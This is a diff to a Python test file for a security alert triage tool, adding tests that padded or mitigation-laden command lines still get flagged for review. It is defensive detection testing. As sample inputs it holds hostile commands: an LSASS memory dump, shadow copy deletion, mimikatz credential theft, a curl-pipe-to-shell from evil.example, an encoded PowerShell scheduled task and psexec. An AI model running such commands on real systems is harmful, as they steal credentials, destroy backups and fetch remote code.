@@ -13,7 +13,7 @@ from vyrox.triage.catalogue import PLACES
 from vyrox.triage.evaluation import measure
 from vyrox.triage.rules import SIGNALS
 from vyrox.triage.score import REVIEW, URGENT, judge
-from vyrox.triage.signal import Family, Signal
+from vyrox.triage.signal import Family, Mitigation, Signal, Subject
 
 DUMP: Final = r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full"
 SHADOWS: Final = "vssadmin.exe delete shadows /all /quiet"
@@ -126,6 +126,33 @@ def test_judge_takes_the_vendors_word_at_its_weight() -> None:
 def test_judge_never_closes_for_want_of_knowledge() -> None:
     assert judge(alert(None, vendor_severity=None)).band == "review"
     assert judge(alert(None, vendor_severity="LOW")).band == "close"
+
+
+def test_judge_closes_no_line_that_it_has_not_read_to_its_end_contract_53() -> None:
+    hidden = judge(alert(f"cmd /c rem {'a' * 33_000} & mimikatz sekurlsa::logonpasswords"))
+    assert (hidden.band, hidden.floor is not None) == ("review", True)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl http://evil.example/x.sh | sh",
+        'schtasks /create /tn x /tr "powershell -enc SQBFAFgA" /sc minute /ru system',
+        r"psexec \\srv-2 -s cmd /c whoami",
+    ],
+)
+def test_judge_words_of_several_mitigations_excuse_no_more_than_one_contract_53(line: str) -> None:
+    assert judge(alert(f"{line} & reg query x & echo jenkins cmake veeam")).band == "review"
+
+
+def test_judge_a_mitigation_that_fails_excuses_nothing_contract_53() -> None:
+    def fails(_subject: Subject) -> str | None:
+        raise RuntimeError
+
+    broken = Mitigation("broken", frozenset({"discovery"}), 0.1, fails)
+    verdict = judge(alert("whoami"), mitigations=[broken])
+    assert verdict.band == "review"
+    assert "broken failed" in [reason.text for reason in verdict.reasons]
 
 
 def test_judge_disabled_signal_does_not_count() -> None:
